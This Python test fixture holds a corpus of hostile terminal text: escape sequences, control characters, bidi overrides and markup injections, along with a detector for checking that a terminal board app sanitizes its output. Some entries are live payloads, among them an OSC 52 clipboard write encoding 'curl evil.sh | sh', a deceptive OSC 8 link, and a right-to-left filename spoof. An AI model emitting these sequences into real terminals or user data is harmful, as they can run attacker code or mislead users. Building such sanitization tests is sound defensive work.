"""A corpus of hostile text: what a teammate (or a server) can put in any field of a board.

Each entry is ``(name, text)``. The classes: C0 controls, C1 controls, every kind of
ESC-introduced sequence (CSI, OSC, DCS, APC, PM, SOS, terminated and not), terminal queries
whose answers would arrive as keys, OSC 52 (clipboard) and OSC 8 (links), bidi overrides and
isolates, Textual markup, a 16 K name and lone surrogates. ``BENIGN`` holds text that must come
through unchanged (emoji joined by ZWJ, wide CJK characters).

``unsafe_in(text)`` names what a piece of output still carries that must never reach a
terminal; tests assert it is empty for everything the product prints outside Textual.
"""

from __future__ import annotations

import re

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

CORPUS: tuple[tuple[str, str], ...] = (
    # -- C0 controls and DEL
    ("nul", "before\x00after"),
    ("backspace", "Pay invoice\x08\x08\x08\x08\x08\x08\x08Delete all"),
    ("bell", "ding\x07ding"),
    ("carriage-return", "visible\rhidden overwrite"),
    ("form-feed-vt", "a\x0cb\x0bc"),
    ("del", "tidy\x7fup"),
    ("c0-all", "".join(chr(c) for c in range(0x20)) + "end"),
    # -- C1 controls (8-bit forms of ESC sequences)
    ("c1-csi", "\x9b2J cleared"),
    ("c1-osc", "\x9d0;owned\x9c"),
    ("c1-dcs", "\x90qpayload\x9c"),
    ("c1-all", "".join(chr(c) for c in range(0x80, 0xA0)) + "end"),
    # -- CSI
    ("csi-clear", ESC + "[2J" + ESC + "[H wiped"),
    ("csi-colour", ESC + "[31;1mred" + ESC + "[0m"),
    ("csi-alt-screen-off", ESC + "[?1049l left the alternate screen"),
    ("csi-mouse-off", ESC + "[?1000l" + ESC + "[?1006l no mouse"),
    ("csi-cursor-hide", ESC + "[?25l hidden cursor"),
    ("csi-unterminated", "dangling " + ESC + "[38;5"),
    # -- terminal queries: the answer comes back as keys
    ("query-da1", "Innocent " + ESC + "[c title"),
    ("query-da2", "Innocent " + ESC + "[>c title"),
    ("query-dsr", "where " + ESC + "[6n am I"),
    ("query-window", "size " + ESC + "[18t" + ESC + "[14t"),
    ("query-decrqss", ESC + "P$qm" + ST + " status"),
    ("query-xtversion", ESC + "[>0q version"),
    # -- OSC
    ("osc-title-bel", ESC + "]0;pwned title" + BEL + "card"),
    ("osc-title-st", ESC + "]2;pwned title" + ST + "card"),
    ("osc-52-clipboard", ESC + "]52;c;Y3VybCBldmlsLnNoIHwgc2g=" + BEL + "copied"),
    ("osc-8-link", ESC + "]8;;https://evil.example/" + ST + "click me" + ESC + "]8;;" + ST),
    ("osc-palette", ESC + "]4;1;rgb:ff/00/00" + BEL + "palette"),
    ("osc-unterminated", "open " + ESC + "]0;never ends"),
    # -- DCS, APC, PM, SOS
    ("dcs", ESC + "Pq#0;2;0;0;0" + ST + " sixel"),
    ("dcs-unterminated", ESC + "P1$r never closed"),
    ("apc", ESC + "_Gf=100;payload" + ST + " kitty"),
    ("pm", ESC + "^private message" + ST),
    ("sos", ESC + "Xstart of string" + ST),
    ("esc-single", ESC + "c reset " + ESC + "7" + ESC + "8" + ESC + "=" + ESC + ">"),
    ("esc-alone", "trailing " + ESC),
    # -- bidi overrides and isolates
    ("bidi-rlo", "invoice_\u202egpj.exe"),
    ("bidi-all", "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069 mixed"),
    # -- Textual / Rich markup
    ("markup-close", "[/] moved by sam"),
    ("markup-crash", "[/] crash me"),
    ("markup-click", "[@click=app.quit]CLICK ME[/]"),
    ("markup-tag", "[WIP] Fix login"),
    ("markup-style", "[bold red]shouting[/bold red] [link=https://evil.example]x[/link]"),
    ("markup-variable", "[$accent]themed[/] $text ${x}"),
    ("markup-escaped", r"\[not a tag] [b]\\[/b]"),
    # -- size and encoding
    ("name-16k", "N" * 16_384),
    ("lone-surrogates", "half \ud800 pair \udfff end"),
    ("line-separators", "one\u2028two\u2029three"),
)

#: Text that must survive exactly: width and joining are the terminal's business.
BENIGN: tuple[tuple[str, str], ...] = (
    ("emoji-zwj", "family 👨‍👩‍👧‍👦 and 🏳️‍🌈"),
    ("cjk-wide", "看板の整理 카드"),
    ("tab-newline", "line one\n\tline two"),
    ("accents", "café déjà vu — naïve"),
)

NAMES: tuple[str, ...] = tuple(name for name, _ in CORPUS)
TEXTS: tuple[str, ...] = tuple(text for _, text in CORPUS)

_C0_BUT_LAYOUT = "\x00-\x08\x0b-\x1f"
_UNSAFE_OUT = re.compile(f"[{_C0_BUT_LAYOUT}\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def unsafe_in(output: str) -> list[str]:
    """The characters in ``output`` (text printed outside Textual) that a terminal would obey.

    Tab, newline and carriage return are layout, not an attack, when the program itself writes
    them; everything else below 0x20, DEL, C1, bidi controls and lone surrogates is reported.
    """
    return sorted({repr(m.group()) for m in _UNSAFE_OUT.finditer(output)})


_BARE_CSI = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]?")


def payloads() -> tuple[str, ...]:
    """The distinctive raw sequences of the corpus: none may appear in a program's output.

    Each is an introducer (ESC or a C1 control) with what follows it up to the next
    terminator. A bare CSI with nothing after it (``ESC[0m``, or an unfinished ``ESC[38;5``)
    is left out: Textual writes those itself (or longer ones they begin), so only the sequence
    with the corpus's own text after it is distinctive.
    """
    found: list[str] = []
    for text in TEXTS:
        for match in re.finditer(r"[\x1b\x9b\x9d\x90][^\x07\x1b\x9c]{0,40}", text):
            sequence = match.group()
            if len(sequence) >= 3 and not _BARE_CSI.fullmatch(sequence):
                found.append(sequence)
    return tuple(dict.fromkeys(found))
